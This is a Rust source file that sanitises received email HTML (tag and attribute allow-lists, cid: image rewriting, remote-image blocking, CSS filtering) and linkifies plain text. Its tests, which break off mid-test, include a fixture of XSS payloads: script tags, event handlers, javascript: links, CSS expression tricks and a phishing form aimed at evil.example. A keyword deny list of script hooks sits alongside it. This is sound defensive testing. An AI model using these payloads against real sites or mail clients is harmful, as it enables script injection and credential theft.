//! Received HTML made safe to show, and plain text made into HTML.
//!
//! ammonia enforces the tag and attribute allow-list; a second pass over its (canonical) serialisation then
//! applies the mail rules ammonia has no hook for: `cid:` rewriting through the caller's closure, remote-image
//! blocking, and CSS filtering of `style` attributes and `<style>` elements. The output is still meant for a
//! sandboxed iframe with a strict CSP; this is one layer, not the only one.

use std::sync::LazyLock;

/// How to treat references that leave the message.
pub struct SanitizeOptions<'a> {
    /// Whether remote images and CSS url() may load (the user clicked "Show images").
    pub allow_remote: bool,
    /// Maps a `cid:` reference (without the "cid:" prefix, angle brackets stripped) to the URL Mailroom serves that
    /// inline part at; None = drop the image.
    pub cid_url: &'a dyn Fn(&str) -> Option<String>,
}

/// Sanitised HTML, ready to be shown.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct SanitizedHtml {
    pub html: String,
    /// remote images/url() were removed or blocked
    pub blocked_remote: bool,
}

/// Tags kept (their attributes are filtered); anything else is unwrapped, keeping its text.
#[rustfmt::skip]
const TAGS: &[&str] = &[
    "a", "abbr", "acronym", "address", "article", "aside", "b", "bdi", "bdo", "big", "blockquote", "br", "caption",
    "center", "cite", "code", "col", "colgroup", "dd", "del", "details", "dfn", "div", "dl", "dt", "em", "figcaption",
    "figure", "font", "footer", "h1", "h2", "h3", "h4", "h5", "h6", "header", "hgroup", "hr", "i", "img", "ins",
    "kbd", "li", "main", "mark", "nav", "ol", "p", "pre", "q", "s", "samp", "section", "small", "span", "strike",
    "strong", "style", "sub", "summary", "sup", "table", "tbody", "td", "tfoot", "th", "thead", "time", "tr", "tt",
    "u", "ul", "var", "wbr",
];

/// Tags removed together with everything inside them: code, embedded documents, and text never meant to be read.
/// `html_to_text` drops them too, so that search finds what the reader shows.
pub(crate) const DROPPED_WITH_CONTENT: &[&str] = &[
    "script", "title", "noscript", "noembed", "noframes", "iframe", "frame", "frameset", "object", "applet",
    "template", "svg", "math", "select", "datalist",
];

/// Attributes allowed on every kept tag; URL-bearing ones are checked in the second pass.
/// `class` is kept because the message's own `<style>` rules select by it; the HTML is only ever
/// shown in a sandboxed frame, where its classes can style nothing but itself.
#[rustfmt::skip]
const ATTRIBUTES: &[&str] = &[
    "align", "alt", "background", "bgcolor", "border", "cellpadding", "cellspacing", "class", "color", "colspan", "dir",
    "face", "height", "hspace", "lang", "nowrap", "rowspan", "size", "span", "start", "style", "title", "type",
    "valign", "vspace", "width",
];

/// Data URLs allowed as images: raster formats only (SVG can carry script).
const DATA_IMAGE_TYPES: &[&str] = &["image/png", "image/gif", "image/jpeg", "image/jpg", "image/webp"];

static BUILDER: LazyLock<ammonia::Builder<'static>> = LazyLock::new(|| {
    let mut builder = ammonia::Builder::empty();
    builder
        .tags(TAGS.iter().copied().collect())
        .clean_content_tags(DROPPED_WITH_CONTENT.iter().copied().collect())
        .generic_attributes(ATTRIBUTES.iter().copied().collect())
        .tag_attributes(
            [("a", ["href"].as_slice()), ("img", ["src", "srcset"].as_slice()), ("style", ["media"].as_slice())]
                .into_iter()
                .map(|(tag, attrs)| (tag, attrs.iter().copied().collect()))
                .collect(),
        )
        // cid and data only get past ammonia so that the second pass can decide about them per tag.
        .url_schemes(["http", "https", "mailto", "cid", "data"].into_iter().collect())
        // A relative URL in mail would resolve against Mailroom itself.
        .url_relative(ammonia::UrlRelative::Deny)
        .set_tag_attribute_value("a", "target", "_blank")
        .link_rel(Some("noopener noreferrer"))
        .strip_comments(true);
    builder
});

/// Sanitises a received HTML body (fragment or whole document; a document gives its body content and `<style>`
/// blocks).
pub fn sanitize_html(input: &str, options: &SanitizeOptions<'_>) -> SanitizedHtml {
    let cleaned = BUILDER.clean(&crate::nesting::bounded(input)).to_string();
    let mut pass = Pass { options, blocked_remote: false };
    let html = pass.rewrite(&cleaned);
    SanitizedHtml { html, blocked_remote: pass.blocked_remote }
}

/// The second pass over ammonia's output, collecting whether anything remote was blocked.
struct Pass<'o, 'a> {
    options: &'o SanitizeOptions<'a>,
    blocked_remote: bool,
}

impl Pass<'_, '_> {
    /// Walks the serialisation html5ever produced. It escapes `<`, `>`, `&` in text and `"` too in attributes
    /// (always double-quoted), so a raw `<` only starts a tag, except inside `<style>`, the one raw-text element
    /// kept.
    fn rewrite(&mut self, html: &str) -> String {
        let mut out = String::with_capacity(html.len());
        let mut rest = html;
        while let Some(lt) = rest.find('<') {
            out.push_str(&rest[..lt]);
            rest = &rest[lt..];
            let Some(gt) = rest.find('>') else {
                // Cannot happen with html5ever's output; drop rather than guess.
                return out;
            };
            let tag = &rest[1..gt];
            rest = &rest[gt + 1..];
            if tag.starts_with('/') {
                out.push('<');
                out.push_str(tag);
                out.push('>');
                continue;
            }
            // A tag that does not parse (not expected from html5ever) is dropped.
            let parsed = parse_start_tag(tag);
            if let Some((name, attrs)) = &parsed {
                out.push('<');
                out.push_str(name);
                for (attr, value) in attrs {
                    if let Some(value) = self.attribute(name, attr, value) {
                        out.push(' ');
                        out.push_str(attr);
                        out.push_str("=\"");
                        escape_html_into(&value, &mut out);
                        out.push('"');
                    }
                }
                out.push('>');
            }
            if tag.split(' ').next() == Some("style") {
                // Raw text: it must never be copied out as markup, even when its tag was dropped.
                let end = rest.find("</style>").unwrap_or(rest.len());
                if parsed.is_some() {
                    out.push_str(&self.stylesheet(&rest[..end]));
                }
                rest = &rest[end..];
            }
        }
        out.push_str(rest);
        out
    }

    /// The value an attribute keeps, or None to drop it.
    fn attribute(&mut self, tag: &str, attr: &str, value: &str) -> Option<String> {
        match (tag, attr) {
            ("a", "href") => {
                let scheme = ammonia::Url::parse(value).ok()?.scheme().to_owned();
                matches!(scheme.as_str(), "http" | "https" | "mailto").then(|| value.to_owned())
            }
            ("img", "src") | (_, "background") => self.image_url(value),
            ("img", "srcset") => self.srcset(value),
            (_, "style") => Some(self.declarations(value)).filter(|css| !css.is_empty()),
            _ => Some(value.to_owned()),
        }
    }

    /// An image reference as it may load: `cid:` mapped by the caller, raster data URLs, remote only when allowed.
    fn image_url(&mut self, value: &str) -> Option<String> {
        match classify_url(value) {
            UrlKind::Cid(id) => (self.options.cid_url)(&id),
            UrlKind::DataImage => Some(value.trim().to_owned()),
            UrlKind::Remote if self.options.allow_remote => Some(value.trim().to_owned()),
            UrlKind::Remote => {
                self.blocked_remote = true;
                None
            }
            UrlKind::Other => None,
        }
    }

    fn srcset(&mut self, value: &str) -> Option<String> {
        // Candidates are "URL [descriptor]" separated by commas; only all-remote sets are kept, so data URLs
        // (which contain commas) never need parsing here.
        let all_remote = value.split(',').all(|candidate| {
            let url = candidate.split_whitespace().next().unwrap_or("");
            matches!(classify_url(url), UrlKind::Remote)
        });
        if !self.options.allow_remote {
            self.blocked_remote |= value.to_ascii_lowercase().contains("http");
            return None;
        }
        all_remote.then(|| value.to_owned())
    }

    /// A `style` attribute's declarations, filtered.
    fn declarations(&mut self, css: &str) -> String {
        let mut pos = 0;
        self.css_block(css, &mut pos, Context::Attribute, 0)
    }

    /// A `<style>` element's text, filtered; `</` escaped so the text can never close the element.
    fn stylesheet(&mut self, css: &str) -> String {
        let mut pos = 0;
        self.css_block(css, &mut pos, Context::TopLevel, 0).replace("</", "<\\/")
    }

    /// Filters CSS from `pos` to the `}` closing the current block (or the end), returning what is kept. The
    /// output is rebuilt from the checked pieces only, so what the browser parses is what was checked.
    fn css_block(&mut self, css: &str, pos: &mut usize, context: Context, depth: usize) -> String {
        let mut out = String::new();
        loop {
            let chunk = next_chunk(css, pos);
            let text = chunk.text.trim();
            match chunk.end {
                Some(b'{') => {
                    if context == Context::Attribute || depth >= MAX_CSS_NESTING || !self.prelude_ok(text, &chunk) {
                        skip_block(css, pos);
                        continue;
                    }
                    let inner = self.css_block(css, pos, Context::Block, depth + 1);
                    if !inner.is_empty() {
                        out.push_str(text);
                        out.push('{');
                        out.push_str(&inner);
                        out.push('}');
                    }
                }
                end => {
                    // At the top level of a sheet only at-rule statements (@import, @charset…) end in ';': none kept.
                    if context != Context::TopLevel
                        && let Some(decl) = self.declaration(text, &chunk)
                    {
                        if !out.is_empty() && !out.ends_with('}') {
                            out.push(' ');
                        }
                        out.push_str(&decl);
                        out.push(';');
                    }
                    match end {
                        Some(b'}') if context == Context::TopLevel => {} // a stray '}' closes nothing
                        Some(b'}') | None => return out,
                        _ => {}
                    }
                }
            }
        }
    }

    fn prelude_ok(&self, text: &str, chunk: &Chunk) -> bool {
        if text.is_empty() || !chunk.well_formed(text) {
            return false;
        }
        let normal = normalize(text);
        if DANGEROUS.iter().chain(RESOURCE_FUNCTIONS).any(|d| normal.contains(d)) || normal.contains("url(") {
            return false;
        }
        let decoded = decode_css_escapes(text).to_ascii_lowercase();
        match decoded.strip_prefix('@') {
            Some(rule) => {
                let name = rule.split(|c: char| !(c.is_ascii_alphanumeric() || c == '-' || c == '_')).next();
                name.is_some_and(|name| AT_RULES.contains(&name))
            }
            None => true,
        }
    }

    /// One declaration as kept (`cid:` URLs rewritten), or None to drop it.
    fn declaration(&mut self, text: &str, chunk: &Chunk) -> Option<String> {
        if text.is_empty() || !chunk.well_formed(text) {
            return None;
        }
        let decoded = decode_css_escapes(text);
        let normal = normalize(text);
        let (name, value) = normal.split_once(':')?;
        if name.is_empty() || name.starts_with('@') || DANGEROUS.iter().any(|d| normal.contains(d)) {
            return None;
        }
        // Positioned content could cover Mailroom's own interface if the HTML is ever shown outside the iframe.
        if name == "position" {
            let value = value.trim_end_matches("!important");
            if !["static", "relative", "inherit", "initial", "unset", "revert"].contains(&value) {
                return None;
            }
        }
        if RESOURCE_FUNCTIONS.iter().any(|f| normal.contains(f)) {
            self.blocked_remote |= !self.options.allow_remote && normal.contains("//");
            return None;
        }
        let targets = url_targets(&decoded);
        // Real declarations have a few; thousands would only cost time (each target scan is linear).
        if targets.len() > MAX_URLS_PER_DECLARATION {
            return None;
        }
        let mut has_cid = false;
        let mut keep = true;
        for target in targets {
            match classify_url(target) {
                UrlKind::Remote if self.options.allow_remote => {}
                UrlKind::DataImage => {}
                UrlKind::Cid(_) => has_cid = true,
                UrlKind::Remote => {
                    self.blocked_remote = true;
                    keep = false;
                }
                UrlKind::Other => keep = false,
            }
        }
        if !keep {
            return None;
        }
        if !has_cid {
            return Some(text.to_owned());
        }
        // Rewriting needs the targets' exact extent, which escapes would blur; such declarations are dropped.
        if text.contains('\\') {
            return None;
        }
        let cid_url = self.options.cid_url;
        rewrite_urls(text, |target| match classify_url(target) {
            UrlKind::Cid(id) => cid_url(&id),
            _ => Some(target.to_owned()),
        })
    }
}

/// Splits a serialised start tag (without `<` and `>`) into its name and unescaped attributes.
fn parse_start_tag(tag: &str) -> Option<(&str, Vec<(&str, String)>)> {
    let name_end = tag.find(' ').unwrap_or(tag.len());
    let (name, mut rest) = tag.split_at(name_end);
    let mut attrs = Vec::new();
    while let Some(after_space) = rest.strip_prefix(' ') {
        let (attr, after_name) = after_space.split_once("=\"")?;
        let (value, after_value) = after_name.split_once('"')?;
        attrs.push((attr, unescape_attribute(value)));
        rest = after_value;
    }
    (!name.is_empty() && rest.is_empty()).then_some((name, attrs))
}

/// Reverses html5ever's attribute escaping (`&amp; &quot; &lt; &gt; &nbsp;`, nothing else).
fn unescape_attribute(value: &str) -> String {
    if !value.contains('&') {
        return value.to_owned();
    }
    value
        .replace("&quot;", "\"")
        .replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&nbsp;", "\u{a0}")
        .replace("&amp;", "&")
}

/// Text escaped for an HTML text node or a double-quoted attribute.
pub fn escape_html(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    escape_html_into(text, &mut out);
    out
}

/// Escapes text for an HTML text node or a double-quoted attribute.
fn escape_html_into(text: &str, out: &mut String) {
    for c in text.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&#39;"),
            c => out.push(c),
        }
    }
}

#[derive(Debug, PartialEq, Eq)]
enum UrlKind {
    Remote,
    DataImage,
    /// The Content-ID referred to.
    Cid(String),
    Other,
}

fn classify_url(url: &str) -> UrlKind {
    let url = url.trim();
    let lower = url.to_ascii_lowercase();
    if lower.starts_with("http://") || lower.starts_with("https://") {
        UrlKind::Remote
    } else if let Some(data) = lower.strip_prefix("data:") {
        let media_type = data.split([';', ',']).next().unwrap_or("").trim();
        if DATA_IMAGE_TYPES.contains(&media_type) { UrlKind::DataImage } else { UrlKind::Other }
    } else if lower.starts_with("cid:") {
        // RFC 2392 cid URLs are percent-encoded ("%40" for '@'); some mailers keep the Content-ID's brackets.
        let id = percent_decode(url[4..].trim());
        UrlKind::Cid(id.trim_start_matches('<').trim_end_matches('>').to_owned())
    } else {
        UrlKind::Other
    }
}

fn percent_decode(s: &str) -> String {
    if !s.contains('%') {
        return s.to_owned();
    }
    let bytes = s.as_bytes();
    let mut out = Vec::with_capacity(bytes.len());
    let mut i = 0;
    while i < bytes.len() {
        let hex = bytes.get(i + 1..i + 3).and_then(|h| std::str::from_utf8(h).ok());
        match (bytes[i], hex.and_then(|h| u8::from_str_radix(h, 16).ok())) {
            (b'%', Some(byte)) => {
                out.push(byte);
                i += 3;
            }
            (b, _) => {
                out.push(b);
                i += 1;
            }
        }
    }
    String::from_utf8(out).unwrap_or_else(|_| s.to_owned())
}

// ---- CSS ----

/// Deeper nesting than any real mail needs; beyond it blocks are skipped (without recursion).
const MAX_CSS_NESTING: usize = 8;

const MAX_URLS_PER_DECLARATION: usize = 32;

/// Found anywhere in a normalised declaration, it is dropped. Old-IE and old-Firefox script hooks, script URLs,
/// imports.
const DANGEROUS: &[&str] =
    &["expression(", "javascript:", "vbscript:", "livescript:", "behavior", "-moz-binding", "@import"];

/// Functions that load something without `url(`; dropped always, as they are not worth the parsing.
const RESOURCE_FUNCTIONS: &[&str] = &["image-set(", "image(", "cross-fade(", "element(", "src("];

/// At-rules whose blocks are kept (their contents filtered like any other).
const AT_RULES: &[&str] = &[
    "media",
    "supports",
    "font-face",
    "keyframes",
    "-webkit-keyframes",
    "-moz-keyframes",
    "-o-keyframes",
    "page",
    "layer",
    "container",
];

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Context {
    /// A `style` attribute: declarations only.
    Attribute,
    /// The top of a stylesheet: rules only.
    TopLevel,
    /// Inside `{…}`: declarations, or nested rules.
    Block,
}

/// CSS up to the next `;`, `{` or `}` outside strings, parentheses and escapes, comments (and `<!--`/`-->`) left out.
struct Chunk {
    text: String,
    end: Option<u8>,
    /// A string cut by a newline or the end, or parentheses left open: such a piece would swallow what follows.
    broken: bool,
}

impl Chunk {
    fn well_formed(&self, trimmed: &str) -> bool {
        // A trailing backslash would escape the delimiter written after it.
        !self.broken && !trimmed.ends_with('\\')
    }
}

fn next_chunk(css: &str, pos: &mut usize) -> Chunk {
    let bytes = css.as_bytes();
    let mut text = String::new();
    let mut quote: Option<u8> = None;
    let mut parens = 0usize;
    let mut broken = false;
    let mut i = *pos;
    let mut copied = i;
    let mut end = None;
    while i < bytes.len() {
        let b = bytes[i];
        if b == b'\\' {
            // An escape: the next character (whole, it may be multi-byte) is never syntax.
            i += 1 + css[i + 1..].chars().next().map_or(0, char::len_utf8);
            continue;
        }
        if let Some(q) = quote {
            if b == q {
                quote = None;
            } else if matches!(b, b'\n' | b'\r' | b'\x0c') {
                quote = None;
                broken = true;
            }
            i += 1;
            continue;
        }
        // Byte-wise: `i` may sit inside a multi-byte character here.
        let at = &bytes[i..];
        let skip = if at.starts_with(b"/*") {
            Some(css[i + 2..].find("*/").map_or(bytes.len(), |p| i + 2 + p + 2))
        } else if at.starts_with(b"<!--") {
            Some(i + 4)
        } else if at.starts_with(b"-->") {
            Some(i + 3)
        } else {
            None
        };
        if let Some(next) = skip {
            text.push_str(&css[copied..i]);
            i = next;
            copied = i;
            continue;
        }
        match b {
            b'"' | b'\'' => quote = Some(b),
            b'(' => parens += 1,
            b')' => parens = parens.saturating_sub(1),
            b';' | b'{' | b'}' if parens == 0 => {
                end = Some(b);
                break;
            }
            _ => {}
        }
        i += 1;
    }
    let stop = i.min(bytes.len());
    text.push_str(&css[copied..stop]);
    *pos = if end.is_some() { stop + 1 } else { stop };
    Chunk { text, end, broken: broken || quote.is_some() || parens > 0 }
}

/// Skips to just after the `}` closing the block whose `{` was just read.
fn skip_block(css: &str, pos: &mut usize) {
    let mut depth = 1usize;
    while depth > 0 {
        match next_chunk(css, pos).end {
            Some(b'{') => depth += 1,
            Some(b'}') => depth -= 1,
            Some(_) => {}
            None => return,
        }
    }
}

/// Resolves CSS escapes (`\65` → `e`, `\:` → `:`) so hidden keywords can be seen.
fn decode_css_escapes(css: &str) -> String {
    let mut out = String::with_capacity(css.len());
    let mut chars = css.chars().peekable();
    while let Some(c) = chars.next() {
        if c != '\\' {
            out.push(c);
            continue;
        }
        match chars.peek().copied() {
            Some(h) if h.is_ascii_hexdigit() => {
                let mut code = 0u32;
                for _ in 0..6 {
                    match chars.peek().and_then(|d| d.to_digit(16)) {
                        Some(d) => {
                            code = code * 16 + d;
                            chars.next();
                        }
                        None => break,
                    }
                }
                // One whitespace after a hex escape belongs to it.
                if chars.next_if(|w| matches!(w, ' ' | '\t' | '\n' | '\x0c')).is_none()
                    && chars.next_if_eq(&'\r').is_some()
                {
                    chars.next_if_eq(&'\n');
                }
                out.push(char::from_u32(code).filter(|&c| c != '\0').unwrap_or('\u{fffd}'));
            }
            // A backslash-newline continues a string; drop both.
            Some('\n' | '\x0c') => {
                chars.next();
            }
            Some('\r') => {
                chars.next();
                chars.next_if_eq(&'\n');
            }
            Some(other) => {
                out.push(other);
                chars.next();
            }
            None => {}
        }
    }
    out
}

/// What the keyword checks look at: escapes resolved, whitespace and controls gone, full-width forms folded
/// (old IE read those as ASCII), lowercase.
fn normalize(css: &str) -> String {
    decode_css_escapes(css)
        .chars()
        .filter(|c| !c.is_whitespace() && !c.is_control())
        .map(|c| match c {
            '\u{ff01}'..='\u{ff5e}' => char::from_u32(c as u32 - 0xfee0).unwrap_or(c),
            c => c,
        })
        .flat_map(char::to_lowercase)
        .collect()
}

/// The start of every `url(` target in (decoded) CSS, each running to its closing quote or parenthesis. Every
/// occurrence is reported, even ones inside another's target, so none can hide.
/// Stops at one more than [`MAX_URLS_PER_DECLARATION`].
fn url_targets(css: &str) -> Vec<&str> {
    let lower = css.to_ascii_lowercase();
    let starts: Vec<usize> =
        lower.match_indices("url(").map(|(i, _)| i + 4).take(MAX_URLS_PER_DECLARATION + 1).collect();
    if starts.len() > MAX_URLS_PER_DECLARATION {
        return vec![""; starts.len()];
    }
    starts.into_iter().map(|start| url_target(&css[start..]).0).collect()
}

/// The target at the start of the text after `url(`, and the length through its closing `)` if well formed.
fn url_target(after: &str) -> (&str, Option<usize>) {
    let lead = after.len() - after.trim_start().len();
    let rest = &after[lead..];
    let (target, consumed) = match rest.chars().next() {
        Some(q @ ('"' | '\'')) => match rest[1..].find([q, '\n']) {
            Some(end) if rest[1 + end..].starts_with(q) => (&rest[1..1 + end], 1 + end + 1),
            _ => return (&rest[1..], None),
        },
        _ => {
            let end = rest.find(')').unwrap_or(rest.len());
            (rest[..end].trim_end(), end)
        }
    };
    let tail = &rest[consumed..];
    let close = tail.len() - tail.trim_start().len();
    let closed = tail[close..].starts_with(')').then_some(lead + consumed + close + 1);
    (target, closed)
}

/// Replaces each `url(…)` in escape-free CSS with `url("<mapped>")`; None if any maps to None or is malformed.
fn rewrite_urls(css: &str, mut map: impl FnMut(&str) -> Option<String>) -> Option<String> {
    let lower = css.to_ascii_lowercase();
    let mut out = String::with_capacity(css.len());
    let mut from = 0;
    while let Some(found) = lower[from..].find("url(") {
        let start = from + found;
        out.push_str(&css[from..start]);
        let (target, length) = url_target(&css[start + 4..]);
        let mapped = map(target)?;
        out.push_str("url(\"");
        for c in mapped.chars() {
            match c {
                '"' | '\\' => {
                    out.push('\\');
                    out.push(c);
                }
                // As hex escapes: a newline would end the string, '<' could start "</style".
                '\n' | '\r' | '\x0c' | '<' => out.push_str(&format!("\\{:x} ", c as u32)),
                c => out.push(c),
            }
        }
        out.push_str("\")");
        from = start + 4 + length?;
    }
    out.push_str(&css[from..]);
    Some(out)
}

// ---- plain text ----

/// Plain text to HTML: escaped, line breaks kept (white-space pre-wrap is the caller's CSS), http(s) URLs and bare
/// email addresses made links with target=_blank rel="noopener noreferrer".
pub fn text_to_html(text: &str) -> String {
    let mut out = String::with_capacity(text.len() + text.len() / 8);
    let mut rest = text;
    while !rest.is_empty() {
        let word_start = rest.find(|c: char| !c.is_whitespace()).unwrap_or(rest.len());
        out.push_str(&rest[..word_start]);
        rest = &rest[word_start..];
        let word_end = rest.find(char::is_whitespace).unwrap_or(rest.len());
        linkify_word(&rest[..word_end], &mut out);
        rest = &rest[word_end..];
    }
    out
}

/// One whitespace-free run of text: URLs first, then addresses in what is left around them.
fn linkify_word(word: &str, out: &mut String) {
    let lower = word.to_ascii_lowercase();
    let mut done = 0;
    let mut search = 0;
    while let Some(found) = lower[search..].find("http") {
        let start = search + found;
        search = start + 4;
        let rest = &lower[start..];
        // Not the tail of a longer word ("xhttp://").
        let standalone = !word[..start].chars().next_back().is_some_and(|c| c.is_ascii_alphanumeric());
        let scheme = if rest.starts_with("https://") {
            8
        } else if rest.starts_with("http://") {
            7
        } else {
            0
        };
        if scheme == 0 || !standalone {
            continue;
        }
        let candidate = &word[start..];
        let end = candidate.find(['<', '>', '"']).unwrap_or(candidate.len());
        let url = trim_url_end(&candidate[..end]);
        if url.len() <= scheme {
            continue; // "http://" alone is no link
        }
        linkify_addresses(&word[done..start], out);
        push_link(url, url, out);
        done = start + url.len();
        search = done;
    }
    linkify_addresses(&word[done..], out);
}

/// A URL without the punctuation that ends the sentence around it; a closing bracket stays when it has an opener.
fn trim_url_end(url: &str) -> &str {
    const PAIRS: [(char, char); 3] = [('(', ')'), ('[', ']'), ('{', '}')];
    let mut unmatched =
        PAIRS.map(|(open, close)| url.matches(close).count() as isize - url.matches(open).count() as isize);
    let mut url = url;
    while let Some(last) = url.chars().next_back() {
        let trim = match PAIRS.iter().position(|&(_, close)| close == last) {
            Some(pair) if unmatched[pair] > 0 => {
                unmatched[pair] -= 1;
                true
            }
            Some(_) => false,
            None => matches!(last, '.' | ',' | ';' | ':' | '!' | '?' | '\'' | '*'),
        };
        if !trim {
            break;
        }
        url = &url[..url.len() - last.len_utf8()];
    }
    url
}

fn linkify_addresses(text: &str, out: &mut String) {
    // Letters and digits of any script: RFC 6531 allows them in both halves of an address, and a mail
    // client links `caféx@example.com` whole. Punctuation such as „quotation marks“ is never part of one.
    let is_local = |c: char| c.is_alphanumeric() || matches!(c, '.' | '_' | '%' | '+' | '-');
    let is_domain = |c: char| c.is_alphanumeric() || matches!(c, '.' | '-');
    let mut done = 0;
    let mut search = 0;
    while let Some(found) = text[search..].find('@') {
        let at = search + found;
        search = at + 1;
        // Every index below comes from a character's own start or end, so slices never split a character.
        let local_start = text[done..at]
            .char_indices()
            .rev()
            .find(|&(_, c)| !is_local(c))
            .map_or(done, |(p, c)| done + p + c.len_utf8());
        let local = text[local_start..at].trim_start_matches('.');
        let local_start = at - local.len();
        let domain_len = text[at + 1..].find(|c: char| !is_domain(c)).unwrap_or(text.len() - at - 1);
        let domain = text[at + 1..at + 1 + domain_len].trim_end_matches(['.', '-']);
        let valid_domain = domain.contains('.')
            && domain.split('.').all(|label| !label.is_empty() && !label.starts_with('-'))
            && domain
                .rsplit('.')
                .next()
                .is_some_and(|tld| tld.chars().count() >= 2 && tld.chars().all(char::is_alphabetic));
        if local.is_empty() || local.ends_with('.') || !valid_domain {
            continue;
        }
        let end = at + 1 + domain.len();
        escape_html_into(&text[done..local_start], out);
        let address = &text[local_start..end];
        push_link(&format!("mailto:{address}"), address, out);
        done = end;
        search = end;
    }
    escape_html_into(&text[done..], out);
}

fn push_link(href: &str, label: &str, out: &mut String) {
    out.push_str("<a href=\"");
    escape_html_into(href, out);
    out.push_str("\" target=\"_blank\" rel=\"noopener noreferrer\">");
    escape_html_into(label, out);
    out.push_str("</a>");
}

#[cfg(test)]
mod tests {
    use super::*;

    fn no_cid(_: &str) -> Option<String> {
        None
    }

    fn clean(html: &str, allow_remote: bool) -> SanitizedHtml {
        sanitize_html(html, &SanitizeOptions { allow_remote, cid_url: &no_cid })
    }

    /// The start tags of serialised HTML (the text of `<style>` elements skipped), lowercase.
    fn start_tags(html: &str) -> Vec<String> {
        let mut tags = Vec::new();
        let mut rest = html;
        while let Some(lt) = rest.find('<') {
            rest = &rest[lt..];
            let gt = rest.find('>').unwrap_or(rest.len() - 1);
            let tag = rest[..=gt].to_ascii_lowercase();
            rest = &rest[gt + 1..];
            if tag.starts_with("<style") {
                rest = &rest[rest.find("</style>").unwrap_or(rest.len())..];
            }
            if !tag.starts_with("</") {
                tags.push(tag);
            }
        }
        tags
    }

    /// Whether any start tag carries an `on…=` event handler attribute.
    fn has_event_handler(html: &str) -> bool {
        start_tags(html).iter().any(|tag| {
            tag.match_indices(" on").any(|(i, _)| {
                let name = &tag[i + 3..];
                let len = name.find(|c: char| !c.is_ascii_alphanumeric()).unwrap_or(name.len());
                len > 0 && name[len..].starts_with('=')
            })
        })
    }

    const HOSTILE: &str = r##"<!DOCTYPE html><html><head>
<meta http-equiv="refresh" content="0;url=https://evil.example/phish">
<base href="https://evil.example/">
<link rel="stylesheet" href="https://evil.example/x.css">
<title>Secret title</title>
<style>
  @import url("https://evil.example/import.css");
  @import 'https://evil.example/import2.css';
  .a { color: red; background: url(https://evil.example/bg.png) }
  .b { width: expression(alert(1)); color: blue }
  .c { width: \65xpression(alert(2)) }
  .d { width: ex/**/pression(alert(3)) }
  .e { behavior: url(x.htc); -moz-binding: url(https://evil.example/x.xml#x) }
  .f { background-image: \75 rl(https://evil.example/escaped.png) }
  .g { position: fixed; top: 0 }
  </style><script>alert('boo')</style>
</head>
<body onload="alert('load')">
<script>alert("xss")</script>
<p onclick="alert(1)" style="color: red; font-weight: bold">Hello <b>world</b></p>
<img src="x" onerror="alert(2)">
<a href="javascript:alert(3)">js link</a>
<a href="JaVaScRiPt:alert(3)">js link 2</a>
<a href="java&#x09;script:alert(4)">js link 3</a>
<a href="vbscript:msgbox(5)">vb link</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCg2KTwvc2NyaXB0Pg==">data link</a>
<a href="https://example.org/page" target="_self" onmouseover="alert(7)">good link</a>
<svg onload="alert(8)"><script>alert(9)</script><a xlink:href="javascript:alert(10)"><text>svg text</text></a></svg>
<math><mtext><script>alert(11)</script></mtext></math>
<div style="width: expression(alert(12)); color: green">styled</div>
<div style="background:url('https://evil.example/attr-bg.png'); margin: 0">bg</div>
<div style="wid\74h: 1px; x: \65 xpression(alert(13))">escaped</div>
<form action="https://evil.example/steal"><input name="password" value="hunter2"><button>Log in</button></form>
<iframe src="https://evil.example/frame">iframe fallback</iframe>
<object data="https://evil.example/flash.swf"><embed src="https://evil.example/e.swf"></object>
<img src="https://tracker.example/pixel.gif?id=42" width="1" height="1">
<table border="1" cellpadding="4" bgcolor="#ffffff" background="https://evil.example/table-bg.png">
<tr><td align="center" valign="top" style="color: #333">cell text</td></tr></table>
<noscript><img src="https://evil.example/noscript.gif"></noscript>
</body></html>"##;

    #[test]
    fn hostile_mail_is_defanged_and_harmless_content_kept() {
        let out = clean(HOSTILE, false);
        let html = out.html.to_ascii_lowercase();
        for bad in [
            "<script",
            "alert",
            "javascript:",
            "vbscript:",
            "data:text/html",
            "<svg",
            "<math",
            "svg text",
            "expression",
            "behavior",
            "binding",
            "@import",
            "<form",
            "<input",
            "<button",
            "<meta",
            "<base",
            "<link",
            "<iframe",
            "iframe fallback",
            "<object",
            "<embed",
            "evil.example",
            "tracker.example",
            "url(",
            "position",
            "secret title",
            "hunter2",
        ] {
            assert!(!html.contains(bad), "{bad:?} survived in {html}");
        }
        assert!(!has_event_handler(&out.html), "{}", out.html);
        assert!(out.blocked_remote);
        for good in [
            "Hello <b>world</b>",
            r#"style="color: red; font-weight: bold;""#,
            "cell text",
            r#"<td align="center" valign="top" style="color: #333;">"#,
            r#"border="1""#,
            r##"bgcolor="#ffffff""##,
            "color: blue",
            "wid\\74h: 1px",
            "color: green",
            "margin: 0",
            "styled",
            "Log in",
            "<style>",
            ".a{color: red;}",
            r#"<a href="https://example.org/page" target="_blank" rel="noopener noreferrer">good link</a>"#,
            "js link",
            r#"<img width="1" height="1">"#,
        ] {
            assert!(out.html.contains(good), "{good:?} missing from {}", out.html);
        }
    }

    #[test]
    fn a_whole_document_gives_its_body_and_style_blocks() {
        let doc = "<html><head><style>p { color: red }</style></head><body bgcolor=red><p>Hi</p></body></html>";
        assert_eq!(clean(doc, false).html, "<style>p{color: red;}</style><p>Hi</p>");
    }

    #[test]
    fn cid_images_are_rewritten_or_dropped() {
        let map = |id: &str| (id == "logo@example.cz").then(|| "/messages/7/cid/logo%40example.cz".to_owned());
        let options = SanitizeOptions { allow_remote: false, cid_url: &map };
        let out = sanitize_html(
            r#"<img src="cid:logo@example.cz" alt="Logo"><img src="CID:%3Clogo%40example.cz%3E"><img src="cid:other@x" alt="gone"><td background="cid:logo@example.cz"></td><div style="background: url('cid:logo@example.cz') no-repeat">x</div>"#,
            &options,
        );
        assert_eq!(
            out.html,
            concat!(
                r#"<img src="/messages/7/cid/logo%40example.cz" alt="Logo">"#,
                r#"<img src="/messages/7/cid/logo%40example.cz">"#,
                r#"<img alt="gone">"#,
                r#"<div style="background: url(&quot;/messages/7/cid/logo%40example.cz&quot;) no-repeat;">x</div>"#,
            )
        );
        assert!(!out.blocked_remote, "cid images are not remote");
        // An unknown cid in CSS drops the declaration.
